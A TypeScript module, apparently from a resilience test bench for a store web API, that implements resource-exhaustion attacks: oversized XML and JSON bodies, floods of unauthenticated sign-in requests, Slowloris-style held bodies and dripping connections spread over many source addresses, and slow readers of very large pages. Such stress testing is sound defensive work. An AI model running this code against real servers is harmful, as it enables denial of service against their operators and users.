import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { request } from 'undici'
import { callRest } from '../application.ts'
import type { Situation, Target } from './situations.ts'

const MEGABYTE = 1024 * 1024
const AT_ONCE = 4
const PAUSE_MS = 1_000

/** Four bodies at once, and again a second after their answers. */
async function sendBodies(
  { origin }: Target,
  path: string,
  headers: Record<string, string>,
  body: Buffer,
  signal: AbortSignal,
): Promise<void> {
  while (!signal.aborted) {
    const send = async () => {
      const answer = await request(`${origin}${path}`, {
        method: 'POST',
        headers,
        body,
        signal,
        headersTimeout: 60_000,
      })
      await answer.body.dump()
    }
    await Promise.all(Array.from({ length: AT_ONCE }, () => send().catch(() => undefined)))
    await sleep(PAUSE_MS, undefined, { signal }).catch(() => undefined)
  }
}

/** Two million references in one text. */
export function xmlBodies(target: Target, signal: AbortSignal): Promise<void> {
  const body = Buffer.from(`<Product><SKUInfo><Name>${'&amp;'.repeat((9.5 * MEGABYTE) / 5)}</Name></SKUInfo></Product>`)
  return sendBodies(
    target,
    '/StoreWebAPI/v1/Products',
    { ...target.headers, 'content-type': 'application/xml' },
    body,
    signal,
  )
}

/** Names that no record has. */
export function jsonBodies(target: Target, signal: AbortSignal): Promise<void> {
  const body = Buffer.from(`{${namesOf(9 * MEGABYTE)}}`)
  return sendBodies(
    target,
    '/StoreWebAPI/v1/Products',
    { ...target.headers, 'content-type': 'application/json' },
    body,
    signal,
  )
}

/** Nobody is signed in, and nothing counts it. */
export function formBodies(target: Target, signal: AbortSignal): Promise<void> {
  const body = Buffer.from(`{${namesOf(1_000_000)}}`)
  return sendBodies(target, '/admin/sign-in', { 'content-type': 'application/json' }, body, signal)
}

function namesOf(bytes: number): string {
  const members: string[] = []
  for (let length = 0; length < bytes; length += 10) members.push(`"${(members.length + 0x10000).toString(36)}":1`)
  return members.join(',')
}

const HELD = 40

/** Bodies of which all but the last ten kilobytes are sent, and then a byte now and then. */
export async function heldBodies({ origin, headers }: Target, signal: AbortSignal): Promise<void> {
  const length = 10 * MEGABYTE - 1
  const head = headOf('POST', '/StoreWebAPI/v1/Products', {
    ...headers,
    'content-type': 'application/json',
    'content-length': String(length),
  })
  const sent = Buffer.alloc(length - 10_000, ' ')
  const sockets = await openSockets(origin, HELD)
  try {
    for (const socket of sockets) {
      socket.resume()
      socket.write(head)
      socket.write(sent)
    }
    while (!signal.aborted) {
      await sleep(PAUSE_MS, undefined, { signal }).catch(() => undefined)
      for (const socket of sockets) if (socket.writable) socket.write(' ')
    }
  } finally {
    for (const socket of sockets) socket.destroy()
  }
}

const NETWORKS = 40
/** So that all of them are more than MAX_CONNECTIONS, and each network has less than its part. */
const CONNECTIONS = 30

/**
 * Connections from many networks that send a byte a second and never a request: half of them a header that does not end, half
 * empty lines behind a request that was answered. Those that the server closes are opened again.
 */
export async function drippingConnections({ origin }: Target, signal: AbortSignal): Promise<void> {
  const { hostname: host, port } = new URL(origin)
  const dripping = new Set<Socket>()
  const open = (network: number) => {
    const [head, drop] =
      network % 2 === 0 ? ['GET /healthz HTTP/1.1\r\nhost: bench\r\na: ', 'a'] : [headOf('GET', '/healthz', {}), '\r\n']
    const socket = connect({ host, port: Number(port), localAddress: `127.1.${network}.1` })
    dripping.add(socket)
    socket.on('error', () => undefined).resume()
    socket.once('connect', () => socket.write(head))
    const drip = setInterval(() => socket.writable && socket.write(drop), PAUSE_MS)
    socket.once('close', () => {
      clearInterval(drip)
      dripping.delete(socket)
      setTimeout(() => signal.aborted || open(network), PAUSE_MS)
    })
  }
  for (let count = 0; count < CONNECTIONS; count++) for (let network = 0; network < NETWORKS; network++) open(network)
  await once(signal, 'abort')
  for (const socket of dripping) socket.destroy()
}

const READERS = 64
const PAGE = 200
/** So that a page has 12.6 MB. */
const DESCRIPTION_LENGTH = 63_000

/** Readers of a page of 12.6 MB that take a few kilobytes a second. */
export const slowReaders: Pick<Situation, 'prepare' | 'attack'> = {
  prepare: async ({ origin, wideHeaders: [wide], productIds }) => {
    const ShortDescription = 'The longest description that there can be. '.repeat(2_000).slice(0, DESCRIPTION_LENGTH)
    for (let first = 0; first < PAGE; first += 20) {
      const ids = productIds.slice(first, first + 20)
      const body = ids.map((CatalogID) => ({ SKUInfo: { CatalogID }, ShortDescription }))
      await callRest(origin, wide, 'PUT', '/Products', body)
    }
  },
  attack: async ({ origin, wideHeaders: [wide] }, signal) => {
    const sockets = await openSockets(origin, READERS)
    try {
      for (const socket of sockets) {
        socket.pause()
        socket.write(headOf('GET', `/StoreWebAPI/v1/Products?limit=${PAGE}`, wide))
      }
      while (!signal.aborted) {
        for (const socket of sockets) socket.read(4_096)
        await sleep(PAUSE_MS, undefined, { signal }).catch(() => undefined)
      }
    } finally {
      for (const socket of sockets) socket.destroy()
    }
  },
}

function headOf(method: string, path: string, headers: Readonly<Record<string, string>>): string {
  const lines = Object.entries({ host: 'bench', ...headers }).map(([name, value]) => `${name}: ${value}\r\n`)
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`
}

async function openSockets(origin: string, count: number): Promise<Socket[]> {
  const { hostname, port } = new URL(origin)
  const sockets = Array.from({ length: count }, () => connect(Number(port), hostname).on('error', () => undefined))
  await Promise.all(sockets.map((socket) => once(socket, 'connect')))
  return sockets
}
